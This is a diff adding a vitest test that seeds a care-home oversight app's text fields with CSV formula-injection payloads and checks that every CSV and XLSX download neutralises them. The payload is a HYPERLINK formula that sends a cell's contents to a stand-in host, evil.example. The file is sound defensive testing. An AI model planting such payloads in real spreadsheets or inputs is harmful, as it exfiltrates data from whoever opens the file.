@@ -1,0 +1,290 @@
+import fs from 'node:fs'
+import path from 'node:path'
+import { parse } from 'csv-parse/sync'
+import { stringify } from 'csv-stringify/sync'
+import ExcelJS from 'exceljs'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { Actor } from '../../src/domain/policy.ts'
+import { loadActor } from '../../src/modules/access/actor.repository.ts'
+import { raiseAlert } from '../../src/modules/early-warning/alert-store.ts'
+import { createLocation, createOrganisation, createProvider, createUser } from '../support/factories.ts'
+import { fullReturn } from '../support/returns.fixture.ts'
+import { buildTestApp, type TestApp, TestClient } from '../support/test-app.ts'
+import { engines } from '../support/test-database.ts'
+
+// Issue 15, item 5: text that providers, partners and officers type must never become a live formula in
+// the spreadsheets officers download. Every such text field that reaches a download is seeded with a
+// value starting with each character a spreadsheet reads as a formula; then every download the app
+// offers (found from its own route table, by what each route answers) is fetched as a user who may have
+// it and read back: no CSV cell starts with one of those characters unless it is a number, and no XLSX
+// cell is a formula.
+
+const leading = ['=', '+', '-', '@', '\t', '\r'] as const
+const formula = (c: string, what: string) => `${c}HYPERLINK("http://evil.example/?"&A2,"${what}")`
+// What a spreadsheet would run: these characters first, unless the cell is a plain number.
+const runsAsFormula = (cell: string) =>
+  /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
+const today = '2020-04-14'
+const nilId = '00000000-0000-0000-0000-000000000000'
+const csvType = /^text\/csv/
+const xlsxType = /^application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet/
+
+// The CSV downloads, and which of the seeded formulas reach each: all of them, but the CQC importer
+// trims a cell (so a leading tab or line break never reaches its problems list), and the enquiry trends
+// are counts per category. A CSV route missing here fails the test.
+const visible = ['=', '+', '-', '@']
+const csvDownloads: Record<string, readonly string[]> = {
+  '/locations/export.csv': leading,
+  '/imports/:id/problems.csv': visible,
+  '/returns/upload/template.csv': leading,
+  '/enquiries/trends.csv': [],
+  '/dashboard/locations.csv': leading,
+  '/dashboard/exports/directory.csv': leading,
+  '/dashboard/exports/returns.csv': leading,
+  '/dashboard/exports/alerts.csv': leading,
+  '/dashboard/exports/contacts.csv': leading,
+}
+
+// A small CQC file in the care directory's own layout: rows the import leaves out, named with formulas,
+// and care homes whose beds are formulas; both go into the problems list with the text as it was.
+function cqcFileWithFormulas(councilName: string) {
+  const fixture = fs.readFileSync(
+    path.resolve('test/fixtures/cqc/cqc_care_directory_with_filters_head_2025.csv'),
+  )
+  const [header, template] = parse(fixture, { bom: true, relax_column_count: true, to: 2 }) as string[][]
+  const column = (name: string) => header!.indexOf(name)
+  const row = (i: number, name: string, category: string, types: string, beds: string) => {
+    const cells = [...template!]
+    cells[column('Location Name')] = name
+    cells[column('Location ID')] = `1-9990000${i}`
+    cells[column('Location Local Authority')] = councilName
+    cells[column('Primary inspection category')] = category
+    cells[column('Service Types')] = types
+    cells[column('Care homes beds')] = beds
+    return cells
+  }
+  return Buffer.from(
+    stringify([
+      header!,
+      ...leading.map((c, i) => row(i, formula(c, 'dentist'), 'Dentists', 'Dental service', '0')),
+      ...leading.map((c, i) =>
+        row(10 + i, `Formula Home ${i}`, 'Residential social care', 'Care home service', formula(c, 'beds')),
+      ),
+    ]),
+  )
+}
+
+describe.each(engines)('no formula in any download on %s', (engine) => {
+  let t: TestApp
+  const ids: Record<string, string> = {}
+  const emails: Record<string, string> = {}
+  const locations: string[] = []
+  const actors: Record<string, Actor> = {}
+
+  beforeAll(async () => {
+    t = await buildTestApp(engine)
+    const db = t.database.db
+    const councilName = 'Formulashire County Council'
+    ids.council = await createOrganisation(db, 'council', councilName, { onsCode: 'E10000099' })
+    for (const [i, c] of leading.entries()) {
+      const provider = await createProvider(db, formula(c, 'provider'))
+      if (i === 0) {
+        ids.provider = provider
+        ids.providerOrg = await createOrganisation(db, 'provider', 'Formula Care', { providerId: provider })
+      }
+      const location = await createLocation(db, provider, ids.council, { name: formula(c, 'location') })
+      // What an officer can type on the location's page.
+      await db
+        .updateTable('locations')
+        .set({ area: formula(c, 'area'), addressLine1: formula(c, 'address'), town: formula(c, 'town') })
+        .where('id', '=', location)
+        .execute()
+      locations.push(location)
+    }
+    for (const [key, org, role] of [
+      ['officer', ids.council, 'council_officer'],
+      ['admin', ids.council, 'admin'],
+      ['manager', ids.providerOrg, 'provider_manager'],
+    ] as const) {
+      const user = await createUser(db, org!, role)
+      ids[key] = user.id
+      emails[key] = user.email
+      actors[key] = (await loadActor(db, user.id))!.actor
+    }
+    // The officer's name is shown in the contact log export.
+    await db
+      .updateTable('users')
+      .set({ displayName: formula('=', 'officer') })
+      .where('id', '=', ids.officer!)
+      .execute()
+
+    for (const [i, c] of leading.entries()) {
+      const locationId = locations[i]!
+      // A provider's return: the free-text concerns.
+      const submitter = i === 0 ? actors.manager! : actors.officer!
+      const sent = await t.services.returns.submit(submitter, locationId, {
+        ...fullReturn,
+        concerns: formula(c, 'concerns'),
+      })
+      expect(sent.ok, JSON.stringify(sent)).toBe(true)
+      if (sent.ok) ids.return = sent.returnId
+      // An officer's contact with the home.
+      const contact = await t.services.contactLog.create(actors.officer!, locationId, {
+        state: 'done',
+        method: 'call',
+        direction: 'outgoing',
+        category: 'ppe',
+        contactDay: '14',
+        contactMonth: '4',
+        contactYear: '2020',
+        contactTime: '08:30',
+        spokeTo: formula(c, 'spoke to'),
+        summary: formula(c, 'summary'),
+        actionsAgreed: formula(c, 'actions'),
+        followUpDay: '',
+        followUpMonth: '',
+        followUpYear: '',
+        restricted: '',
+        alertIds: [],
+      })
+      expect(contact?.ok, JSON.stringify(contact)).toBe(true)
+      if (contact?.ok) ids.contact = contact.value.id
+      // An alert whose title and details carry the text, resolved by an officer with a note.
+      const raised = await raiseAlert(db, {
+        locationId,
+        source: 'intelligence',
+        alertKey: `intelligence-formula-${i}`,
+        severity: 'red',
+        title: formula(c, 'alert'),
+        message: formula(c, 'details'),
+        evidence: {},
+        at: t.clock.now(),
+      })
+      ids.case = raised.caseId
+      ids.alert = raised.alertId
+      if (i % 2 === 0) {
+        const resolved = await t.services.casework.resolveAlertByHand(
+          actors.officer!,
+          raised.caseId,
+          raised.alertId,
+          formula(c, 'note'),
+        )
+        expect(resolved?.ok, JSON.stringify(resolved)).toBe(true)
+      }
+    }
+
+    // A provider's question: its words are in no download, but its pages are among the routes tried.
+    const asked = await t.services.enquiries.ask(actors.manager!, {
+      locationId: locations[0]!,
+      category: 'ppe',
+      question: formula('=', 'question'),
+    })
+    expect(asked?.ok, JSON.stringify(asked)).toBe(true)
+    if (asked?.ok) ids.enquiry = asked.value.id
+    ids.audit = (await db.selectFrom('auditEvents').select('id').executeTakeFirstOrThrow()).id
+
+    // A CQC file with problem rows, uploaded by the officer: its problems list is a download.
+    const client = new TestClient(t.app)
+    await client.signIn(emails.officer!)
+    await client.get('/imports/new')
+    const upload = await client.postMultipart(
+      '/imports/new',
+      { area: councilName },
+      { field: 'file', fileName: 'formulas.csv', content: cqcFileWithFormulas(councilName) },
+    )
+    expect(upload.statusCode, upload.body.slice(0, 2000)).toBe(302)
+    ids.import = upload.headers.location!.split('/').pop()!
+  })
+
+  afterAll(async () => {
+    await t?.close()
+  })
+
+  // A real id for each kind of page, so that routes with an id answer as they would for real.
+  const idFor = (route: string, param: string) => {
+    if (param === 'alertId') return ids.alert!
+    const known: [prefix: string, id: string | undefined][] = [
+      ['/locations/', locations[0]],
+      ['/providers/', ids.provider],
+      ['/imports/', ids.import],
+      ['/returns/', ids.return],
+      ['/cases/', ids.case],
+      ['/contact-log/', ids.contact],
+      ['/admin/users/', ids.officer],
+      ['/admin/organisations/', ids.council],
+      ['/admin/audit/', ids.audit],
+      ['/enquiries/', ids.enquiry],
+    ]
+    return known.find(([prefix]) => route.startsWith(prefix))?.[1] ?? nilId
+  }
+
+  // Every GET route, asked as each kind of user until one may have it, with the filters the exports need.
+  let probed: Promise<Map<string, { type: string; body: Buffer }>> | undefined
+  const everyDownload = () => {
+    probed ??= probeEveryRoute()
+    return probed
+  }
+  async function probeEveryRoute() {
+    const clients = await Promise.all(
+      ['officer', 'admin', 'manager'].map(async (who) => {
+        const client = new TestClient(t.app)
+        await client.signIn(emails[who]!)
+        return client
+      }),
+    )
+    const routes = [...new Set(t.app.routeTable.filter((r) => r.method === 'GET').map((r) => r.url))]
+    const downloads = new Map<string, { type: string; body: Buffer }>()
+    for (const route of routes) {
+      if (route.includes('*')) continue // static files
+      const url = route.replace(/:(\w+)/g, (_, param: string) => idFor(route, param))
+      for (const client of clients) {
+        const answer = await client.get(`${url}?from=2020-03-01&to=${today}&figure=expected`)
+        const type = String(answer.headers['content-type'] ?? '')
+        if (answer.statusCode !== 200) continue
+        if (csvType.test(type) || xlsxType.test(type)) downloads.set(route, { type, body: answer.rawPayload })
+        break
+      }
+    }
+    return downloads
+  }
+
+  it('offers every CSV download in the list, and each is written with no cell a spreadsheet would run', async () => {
+    const downloads = await everyDownload()
+    const csvRoutes = [...downloads].filter(([, d]) => csvType.test(d.type)).map(([route]) => route)
+    // Every route that answers CSV is in the list, every route named .csv answered CSV, and the reverse.
+    const namedCsv = t.app.routeTable.filter((r) => r.method === 'GET' && r.url.endsWith('.csv'))
+    expect(new Set(csvRoutes)).toEqual(new Set(Object.keys(csvDownloads)))
+    expect(new Set(namedCsv.map((r) => r.url))).toEqual(new Set(Object.keys(csvDownloads)))
+
+    for (const route of csvRoutes) {
+      const cells = (
+        parse(downloads.get(route)!.body, { bom: true, relax_column_count: true }) as string[][]
+      ).flat()
+      expect(cells.filter(runsAsFormula), route).toEqual([])
+      // The seeded text did reach the file, made harmless: each character's formula is there as text.
+      const madeHarmless = new Set(cells.filter((c) => c.startsWith("'")).map((c) => c[1]))
+      expect([...madeHarmless].sort(), route).toEqual([...csvDownloads[route]!].sort())
+    }
+  })
+
+  it('writes people’s text into every XLSX download as text, never as a formula', async () => {
+    const downloads = await everyDownload()
+    const xlsxRoutes = [...downloads].filter(([, d]) => xlsxType.test(d.type)).map(([route]) => route)
+    const namedXlsx = t.app.routeTable.filter((r) => r.method === 'GET' && r.url.endsWith('.xlsx'))
+    expect(new Set(xlsxRoutes)).toEqual(new Set(namedXlsx.map((r) => r.url)))
+    for (const route of xlsxRoutes) {
+      const workbook = new ExcelJS.Workbook()
+      await workbook.xlsx.load(downloads.get(route)!.body as unknown as ArrayBuffer)
+      const texts: string[] = []
+      for (const sheet of workbook.worksheets)
+        sheet.eachRow((row) =>
+          row.eachCell((cell) => {
+            expect(cell.type, `${route} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)
+            if (typeof cell.value === 'string') texts.push(cell.value)
+          }),
+        )
+      // Every XLSX download lists locations: the seeded name is there, as the provider's text.
+      expect(texts, route).toContain(formula('=', 'location'))
+    }
+  })
+})
